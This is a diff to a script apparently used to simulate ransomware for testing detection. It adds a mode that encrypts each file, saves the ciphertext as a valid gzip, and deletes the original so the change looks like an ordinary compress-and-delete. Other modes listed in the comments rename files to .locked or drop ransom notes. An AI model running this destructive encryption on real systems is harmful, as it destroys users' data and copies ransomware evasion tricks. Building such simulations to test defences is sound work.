@@ -30,6 +30,8 @@
 #   ccrypt        ccrypt -e -S .locked: encrypted in place, then renamed FILE.locked
 #   full-rename   as full (no header: as many bytes as before), then renamed
 #                 FILE.locked, as most ransomware families do
+#   gzip-disguise the ciphertext (as full) gzipped to FILE.gz, original deleted: a
+#                 valid gzip, like a user's compress-and-delete
 #   notes         only drops README_RESTORE_FILES.txt (Bitcoin address, .onion link)
 #                 into every directory
 #
@@ -68,7 +70,7 @@ while [ $# -gt 0 ]; do
 	esac
 done
 case $MODE in
-full | header4k | skiphdr | intermittent | base64 | hex | gpg-delete | gpg-replace | age-rename | 7z-delete | ccrypt | full-rename | notes) ;;
+full | header4k | skiphdr | intermittent | base64 | hex | gpg-delete | gpg-replace | age-rename | 7z-delete | ccrypt | full-rename | gzip-disguise | notes) ;;
 *) echo "attack.sh: unknown mode $MODE" >&2; usage ;;
 esac
 [[ $KEY =~ ^[0-9a-f]{64}$ ]] || { echo "attack.sh: --key needs 64 hex digits" >&2; exit 2; }
@@ -198,6 +200,10 @@ while IFS=$'\t' read -r -u 3 iv size mt rel; do
 		ctr "$iv" <"$f" | dd of="$f" bs=64K conv=notrunc iflag=fullblock status=none
 		mv -f "$f" "$f.locked"
 		keep_mtime "$f.locked" "$mt"; emit created "$f.locked" "$f"; emit deleted "$f" ;;
+	gzip-disguise)
+		ctr "$iv" <"$f" | gzip -n >"$f.gz"
+		rm -f "$f"
+		keep_mtime "$f.gz" "$mt"; emit created "$f.gz" "$f"; emit deleted "$f" ;;
 	esac
 done 3<"$WORK/meta"
 if [ -s "$WORK/interleave" ]; then
